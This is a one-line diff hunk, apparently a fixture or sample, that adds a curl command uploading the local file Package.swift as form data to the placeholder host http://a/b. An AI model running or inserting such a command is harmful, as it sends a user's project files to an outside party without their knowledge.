@@ -1,0 +1,1 @@
+curl http://a/b -F 'a=<Package.swift'
